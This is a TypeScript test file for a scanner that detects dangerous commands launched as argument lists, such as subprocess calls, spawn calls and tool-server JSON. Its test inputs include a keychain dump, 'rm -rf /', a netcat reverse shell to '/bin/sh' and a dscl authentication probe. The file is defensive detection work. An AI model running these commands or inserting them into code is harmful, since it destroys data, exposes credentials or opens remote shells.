import { describe, expect, test } from "vitest";
import fc from "fast-check";
import { compilePack } from "../../../scripts/rules/compile.ts";
import { readRules } from "../../../scripts/rules/read.ts";
import { findCommandPlaces } from "../../../src/scanners/rules/command-vectors.ts";
import { openPack } from "../../../src/scanners/rules/open-pack.ts";

const pack = openPack(compilePack(readRules("rules").filter(({ match }) => match !== undefined)));

function found(text: string, name = "tool.py"): readonly string[] {
  return findCommandPlaces(text, name, pack).map(
    ({ rule, start, end }) => `${rule.slice(6)} ${text.slice(start, end)}`,
  );
}

describe("a program started by a list of arguments", () => {
  test.each<[string, string, string]>([
    ["Python, run", `subprocess.run(["security", "dump-keychain", "-d"])`, `keychain-dump security", "dump-keychain`],
    ["Python, over lines", `subprocess.Popen([\n    'rm', '-rf', '/'\n])`, `root-or-home-deleted rm', '-rf', '/`],
    [
      "Python, a variable between",
      `subprocess.check_output(["nc", "-e", "/bin/sh", host, "4444"])`,
      `reverse-shell-netcat nc", "-e", "/bin/sh`,
    ],
    [
      "JavaScript, name and list",
      `spawnSync("dscl", [".", "-authonly", user]);`,
      `keychain-dump dscl", [".", "-authonly`,
    ],
    [
      "JSON of a tool server",
      `{"command": "nc", "args": ["-e", "/bin/sh"]} // spawn`,
      `reverse-shell-netcat nc", "args": ["-e", "/bin/sh`,
    ],
  ])("%s", (_, text, expected) => {
    expect(found(text)).toContain(expected);
  });

  test.each<[string, string]>([
    ["one word only", `subprocess.run(["security"])`],
    ["a harmless command", `subprocess.run(["git", "status", "--short"])`],
    ["a list that nobody runs", `WORDS = ["security", "dump-keychain"]  # subprocess`],
    ["two calls are two commands", `subprocess.run(["security", "-h"]); subprocess.run(["echo", "dump-keychain"])`],
    ["a word built at run time ends the list", `subprocess.run(["security", join("dump-keychain")])`],
  ])("nothing is found: %s", (_, text) => {
    expect(found(text)).toEqual([]);
  });
});

test("places lie within the text and are in order, whatever the list is", () => {
  const word = fc.oneof(
    fc.constantFrom(`"rm"`, `'-rf'`, `"/"`, "name", `""`, `"a b"`, `"\\n"`, "f(x)"),
    fc.string().map((text) => JSON.stringify(text)),
  );
  const opening = fc.constantFrom("subprocess.run([", "spawn(", `"command": `, "execFile(");
  const runs = { found: 0 };
  fc.assert(
    fc.property(
      opening,
      fc
        .tuple(fc.constantFrom([], [`"rm"`, `'-rf'`, `"/"`]), fc.array(word, { maxLength: 8 }))
        .map((both) => both.flat()),
      fc.constantFrom(", ", ",\n  ", ", ["),
      (start, words, between) => {
        const text = `x = 1\n${start}${words.join(between)}])\nsubprocess`;
        for (const place of findCommandPlaces(text, "tool.py", pack)) {
          runs.found++;
          expect(place.start).toBeGreaterThanOrEqual(0);
          expect(place.end).toBeGreaterThan(place.start);
          expect(place.end).toBeLessThanOrEqual(text.length);
        }
      },
    ),
    { numRuns: 2000 },
  );
  expect(runs.found).toBeGreaterThan(200);
});

test("a long list of openings takes no time to speak of", () => {
  const text = `subprocess ${'run(["a", '.repeat(50_000)}`;
  const start = process.cpuUsage();
  findCommandPlaces(text, "tool.py", pack);
  expect(process.cpuUsage(start).user / 1000).toBeLessThan(2000);
});
